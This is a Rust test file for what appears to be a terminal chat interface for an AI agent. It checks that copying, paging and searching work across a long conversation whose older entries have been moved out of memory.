/// A conversation of which most has left memory, and where that is.
fn mostly_away() -> (Scene, Memory) {
    let (mut s, memory) = (Scene::ready(80, 24), Memory::default());
    s.history = memory.clone();
    let feed = |s: &mut Scene, event: Event| drop(memory.reduce(&mut s.model, event.at_home(), s.now));
    feed(&mut s, Event::Setup(Setup::History));
    for n in 0..400 {
        feed(&mut s, Event::User(prompt(&format!("prompt {n}"))));
        let text = format!("answer {n}. {}\n", "words ".repeat(3000));
        let update = Update::Whole { kind: ChunkKind::Agent, content: vec![Block::Text(text)] };
        feed(&mut s, Event::Agent(AgentEvent::Update { session: session(), update }));
        let turn = s.model.first().session().last_turn();
        let result = Ok(PromptAnswer::Ended(PromptResult { stop: Stop::EndTurn, usage: None }));
        feed(&mut s, Event::Agent(AgentEvent::PromptAnswered { turn, result }));
    }
    s.draw();
    (s, memory)
}

#[test]
fn what_has_left_memory_is_copied_and_read_as_what_is_in_it() {
    let (mut s, _) = mostly_away();
    s.press(Code::F(10));
    // From the newest on up to one that is not in memory: all of them are copied, none is left out.
    s.typed("v");
    while s.ui.view.reading.as_ref().is_some_and(|reading| reading.at > EntryId(20)) {
        s.press(Code::Up);
    }
    let at = s.ui.view.reading.as_ref().unwrap().at;
    let is_here = |s: &Scene, id| s.model.first().session().entries().get(id).is_some();
    assert!(!is_here(&s, at));
    s.outs.clear();
    s.typed("y");
    let [Out::Copy(_, text)] = &*s.outs else { panic!("{:?}", s.outs) };
    let told: Vec<&str> = text.lines().filter(|line| line.starts_with("answer ")).collect();
    assert!(told.len() > 380 && told.iter().any(|line| line.starts_with("answer 15.")), "{}", told.len());
    assert!(!is_here(&s, at), "it was only read");
    s.outs.clear();
    s.typed("p");
    assert!(matches!(&*s.outs, [Out::Edit(EditorJob::Page { text })] if !text.is_empty()), "{:?}", s.outs);
}

#[test]
fn what_has_left_memory_is_looked_through_as_well_and_esc_leaves_it() {
    let (mut s, memory) = mostly_away();
    let away = s.model.first().session().entries().slots().filter(|slot| slot.here().is_none()).count();
    assert!(away > 300, "{away}");
    s.press(Code::F(10)).typed("/answer 3.").input(Input::Hasty(Key::plain(Code::Enter)));
    assert!(s.draw().contains("looking through") && s.shown.contains("Esc leaves it"), "{}", s.shown);
    // A few at a time, as the loop does.
    let look_on = |s: &mut Scene| {
        let cx = cx_of(&s.model, &s.history, &s.info, s.now);
        let mut left = 50;
        reading::look_on(&mut s.ui, cx, |away, id| {
            left -= 1;
            (left > 0).then(|| away.read(id, &memory))
        })
    };
    let mut steps = 0;
    while look_on(&mut s) == Looked::NotYet {
        steps += 1;
    }
    assert!(steps > 3, "{steps}");
    let at = s.ui.view.reading.as_ref().unwrap().at;
    let entries = s.model.first().session().entries();
    let Some(Slot::Away(found)) = entries.slot(entries.index_of(at).unwrap()) else { panic!("it is in memory") };
    let Body::Agent(message) = found.read(at, &memory).body else { panic!("no answer") };
    assert!(message.text.starts_with("answer 3. words"), "{}", &message.text[..20]);
    // To the prompt before, which needs no reading.
    s.typed("[");
    assert!(s.ui.view.reading.as_ref().unwrap().at < at && s.ui.view.reading.as_ref().unwrap().looks.is_none());
    s.typed("/nowhere").press(Code::Enter);
    while look_on(&mut s) == Looked::NotYet {}
    assert!(s.draw().contains("nothing of that above"), "{}", s.shown);
    s.typed("N");
    assert!(s.draw().contains("looking through"), "{}", s.shown);
    s.press(Code::Esc);
    assert!(s.ui.view.reading.as_ref().is_some_and(|reading| reading.looks.is_none()), "only that is left");
    assert!(!s.draw().contains("looking through"), "{}", s.shown);
}
